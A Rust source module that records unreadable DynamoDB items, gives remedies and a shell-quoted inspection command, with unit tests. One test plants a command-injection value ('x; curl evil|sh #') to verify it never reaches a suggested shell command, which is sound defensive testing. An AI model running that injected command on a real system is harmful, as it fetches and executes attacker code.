//! Records that this version cannot read: an item that somebody edited by hand, or one with a word that only a newer
//! version knows. Such a record is set aside by its key, and every other one is worked on.

use std::collections::BTreeSet;
use std::fmt;

use serde::{Deserialize, Serialize};

use crate::hash;
use crate::id::TemplateName;
use crate::problem::printable;
use crate::visible::visible_json;

/// The longest part of a key, and the longest field, that is printed.
const NAME_LIMIT: usize = 200;

/// The longest reason that is kept.
const REASON_LIMIT: usize = 300;

/// A record that cannot be read: which one, and what is wrong with it.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
pub struct UnreadableRecord {
    /// The table.
    pub table: String,
    /// The item's partition key.
    pub pk: String,
    /// The item's sort key.
    pub sk: String,
    /// The field that cannot be read, as a path such as `held.queued.demand.trigger`; none: the item as a whole.
    pub field: Option<String>,
    /// What is wrong with it, printable and of a bounded length.
    pub reason: String,
}

impl UnreadableRecord {
    /// The item of this key. `reason` comes from whoever wrote the item, and may be anything.
    #[must_use]
    pub fn new(table: &str, pk: &str, sk: &str, field: Option<&str>, reason: &str) -> Self {
        Self {
            table: table.to_owned(),
            pk: pk.to_owned(),
            sk: sk.to_owned(),
            field: field.map(|field| printable(field, NAME_LIMIT)),
            reason: printable(reason, REASON_LIMIT),
        }
    }

    /// The same for the same fault of the same item.
    #[must_use]
    pub fn digest(&self) -> String {
        let field = self.field.as_deref().unwrap_or_default();
        hash::short(&[self.table.as_str(), &self.pk, &self.sk, field, &self.reason].join("\n"))
    }

    /// What mends it.
    #[must_use]
    pub fn remedy(&self) -> String {
        match self.pk.as_str() {
            "POLICY" => "replace it with your policy: prism policy apply FILE".to_owned(),
            "TEMPLATES" => match self.sk.parse::<TemplateName>() {
                Ok(name) => format!("replace it with your template: prism templates apply {name}.yaml"),
                Err(_) => "replace it with your template: prism templates apply FILE".to_owned(),
            },
            _ => "mend the field in the DynamoDB console; if a newer version wrote it, deploy that version".to_owned(),
        }
    }

    /// The command that shows the item.
    #[must_use]
    pub fn command(&self) -> String {
        let key = serde_json::json!({ "pk": { "S": self.pk }, "sk": { "S": self.sk } });
        let quoted = visible_json(&key.to_string()).replace('\'', r"'\''");
        format!("aws dynamodb get-item --table-name {} --key '{quoted}'", self.table)
    }
}

impl fmt::Display for UnreadableRecord {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let [table, pk, sk] = [&self.table, &self.pk, &self.sk].map(|name| printable(name, NAME_LIMIT));
        write!(f, "the record {pk} {sk} in the table {table} cannot be read: ")?;
        if let Some(field) = &self.field {
            write!(f, "field {field}: ")?;
        }
        f.write_str(&self.reason)
    }
}

/// Of which unreadable records people were told, so that they hear of each once.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Told {
    /// The digests of those records and of what is wrong with them.
    pub digests: BTreeSet<String>,
    /// Counts the writes: every write names the revision that it read.
    pub revision: u64,
    /// Whether this record itself could not be read.
    #[serde(skip)]
    pub is_unreadable: bool,
}

/// How many digests are remembered: an item has at most 400 KB.
const REMEMBERED: usize = 20_000;

impl Told {
    /// The records of which people were not told.
    #[must_use]
    pub fn news<'a>(&self, found: &'a BTreeSet<UnreadableRecord>) -> Vec<&'a UnreadableRecord> {
        found.iter().filter(|record| !self.digests.contains(&record.digest())).collect()
    }

    /// What is remembered once people were told of all that was found. One that is mended is forgotten, so that they are
    /// told again if it breaks again.
    #[must_use]
    pub fn next(&self, found: &BTreeSet<UnreadableRecord>) -> Self {
        let digests = found.iter().map(UnreadableRecord::digest).take(REMEMBERED).collect();
        Self { digests, revision: self.revision + 1, is_unreadable: false }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn record(reason: &str) -> UnreadableRecord {
        UnreadableRecord::new("prism-state", "CLAIM", "biology-x86_64", Some("held.stage"), reason)
    }

    #[test]
    fn an_unreadable_record_names_table_key_and_field() {
        assert_eq!(
            record("unknown variant `soaking`").to_string(),
            "the record CLAIM biology-x86_64 in the table prism-state cannot be read: field held.stage: unknown variant \
             `soaking`"
        );
        let whole = UnreadableRecord { field: None, ..record("no map") };
        assert!(whole.to_string().ends_with("cannot be read: no map"));
    }

    #[test]
    fn what_somebody_wrote_into_an_item_is_printed_bounded_and_without_control_characters() {
        let long = record(&format!("\u{1b}[2J{}", "x".repeat(9_000)));
        assert!(long.to_string().len() < 800 && !long.to_string().contains('\u{1b}'));
    }

    #[test]
    fn people_are_told_of_a_record_once_and_again_if_it_breaks_again() {
        let (one, other) = (record("a"), record("b"));
        let both = BTreeSet::from([one.clone(), other.clone()]);
        let first = Told::default().next(&BTreeSet::from([one.clone()]));
        assert_eq!(first.news(&both), [&other]);
        let second = first.next(&both);
        assert!(second.news(&both).is_empty() && second.revision == 2);
        let mended = second.next(&BTreeSet::from([other]));
        assert_eq!(mended.news(&both), [&one]);
    }

    #[test]
    fn the_command_that_shows_a_record_is_quoted_for_a_shell() {
        let odd = UnreadableRecord { pk: "REQUEST#it's \"mine\"".to_owned(), ..record("a") };
        assert_eq!(
            odd.command(),
            r#"aws dynamodb get-item --table-name prism-state --key '{"pk":{"S":"REQUEST#it'\''s \"mine\""},"sk":{"S":"biology-x86_64"}}'"#
        );
    }

    #[test]
    fn a_policy_and_a_template_are_replaced_by_applying_them_again() {
        let of = |pk: &str| UnreadableRecord { pk: pk.to_owned(), ..record("a") }.remedy();
        assert!(of("POLICY").contains("prism policy apply") && of("TEMPLATES").contains("prism templates apply"));
        assert!(of("CLAIM").contains("DynamoDB console"));
        let odd = UnreadableRecord { pk: "TEMPLATES".into(), sk: "x; curl evil|sh #".into(), ..record("a") };
        assert!(odd.remedy().ends_with("prism templates apply FILE"), "nothing of it is pasted into a shell");
    }

    #[test]
    fn a_digest_is_of_the_fault_and_of_the_item() {
        assert_eq!(record("a").digest(), record("a").digest());
        assert_ne!(record("a").digest(), record("b").digest());
        assert_ne!(record("a").digest(), UnreadableRecord { sk: "other".to_owned(), ..record("a") }.digest());
    }
}
